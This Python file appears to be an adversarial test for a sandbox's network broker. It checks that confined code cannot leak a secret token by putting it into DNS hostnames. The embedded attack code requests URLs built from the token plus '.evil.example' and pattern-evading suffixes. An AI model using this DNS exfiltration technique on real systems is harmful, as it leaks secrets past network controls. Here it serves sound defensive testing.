"""
Puts what it knows into names of hosts, for whoever answers questions about names.
"""

from __future__ import annotations

from fastness.attack import brokering
from fastness.attack.arena import Arena
from fastness.attack.model import Attack, Claim, Effect, Expect, Layer
from fastness.capabilities.net import AddressGuard, Net, NetScope
from fastness.tier import Guarantee

CODE = """
for after in ('.evil.example', '.a.test', '.example/a.test', '.b.test.evil.example'):
    attempt(ctx.net.request, method='GET', url='http://' + TOKEN + after + '/')
"""


def attack(arena: Arena) -> Effect:
    """In the tier, with two patterns granted."""
    names = brokering.Names({})
    brokering.net({})
    with brokering.Broker(arena, net=Net(AddressGuard(), resolve=names)) as broker:
        scope = NetScope(hosts=("a.test", "*.b.test"), schemes=("http",), ports=(80,))
        result = broker.run(CODE, scope, facts={"TOKEN": arena.token})
        told = [name for name in names.asked if arena.token in name]
        return Effect(bool(told), f"{len(told)} such names were asked about", result)


def control(arena: Arena) -> Effect:
    """Before a careless host."""
    log = arena.folder / "careless.log"
    brokering.control(arena, CODE, TOKEN=arena.token, LOG=str(log))
    told = log.read_text().count(f"{arena.token}.") if log.exists() else 0
    return Effect(told > 3, f"{told} such names were asked about")


ATTACK = Attack(
    id="broker.net_names_asked",
    claim=Claim(Guarantee.NET_CONFINED, "No question is asked about a name that was not granted."),
    tiers=dict.fromkeys(("wasm", "confined", "isolated"), Expect(Layer.BROKER, "host", calls=("request",))),
    attack=attack,
    control=control,
)
